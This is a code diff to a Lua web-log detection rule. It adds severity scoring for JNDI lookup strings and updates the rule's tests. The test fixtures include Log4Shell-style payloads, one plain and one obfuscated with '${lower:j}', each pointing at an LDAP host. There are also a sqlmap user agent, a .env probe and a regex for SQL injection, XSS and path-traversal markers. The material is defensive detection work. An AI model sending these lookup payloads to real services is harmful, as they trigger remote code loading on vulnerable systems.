@@ -27,6 +27,12 @@ return rule {
   none = {
     [[(?i)(?:union(?:%20|\+)|%3cscript|<script|\.\./\.\./|%2e%2e|/\.%2e)]],    -- web.sql_injection, xss, path_traversal
   },
+  match = function(_, found)
+    for _, hit in ipairs(found) do   -- a lookup runs code where it works
+      if text.contains(text.lower(hit.text), "jndi") or text.contains(text.lower(hit.text), "${lower") then return { severity = "high" } end
+    end
+    return true
+  end,
 
   tests = {
     { "dot files", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /.env HTTP/1.1" 404 91 "-" "curl/8"]], expect = 1 },
@@ -51,8 +57,9 @@ return rule {
       [[192.0.2.7 - - [26/Nov/2024:10:15:03 +0000] "GET /backup/plan.html?next=http://shop.example/ HTTP/1.1" 200 91 "-" "curl/8"]],
       [[192.0.2.7 - - [26/Nov/2024:10:15:04 +0000] "GET http://shop.example/ HTTP/1.1" 200 91 "-" "curl/8"]],
     }, expect = 0 },
-    { "JSON with a lookup", log = [[{"level":"info","service":"web","message":"user agent ${jndi:ldap://203.0.113.9/a}"}]], expect = 1 },
-    { "a scanner", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET / HTTP/1.1" 200 91 "-" "sqlmap/1.8"]], expect = 1 },
+    { "JSON with a lookup", log = [[{"level":"info","service":"web","message":"user agent ${jndi:ldap://203.0.113.9/a}"}]], expect = { { severity = "high" } } },
+    { "a lookup in disguise", log = [[{"level":"info","service":"web","message":"user agent ${${lower:j}ndi:ldap://203.0.113.9/a}"}]], expect = { { severity = "high" } } },
+    { "a scanner", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET / HTTP/1.1" 200 91 "-" "sqlmap/1.8"]], expect = { { severity = "medium" } } },
     { "a blog about it", log = [[192.0.2.7 - - [26/Nov/2024:10:15:02 +0000] "GET /blog/environment HTTP/1.1" 200 91 "-" "curl/8"]], expect = 0 },
     { "start", log = [[2024-11-26 10:15:02 INFO read /srv/app/.env, profile=prod]], expect = 0 },
     { "another rule's", log = {
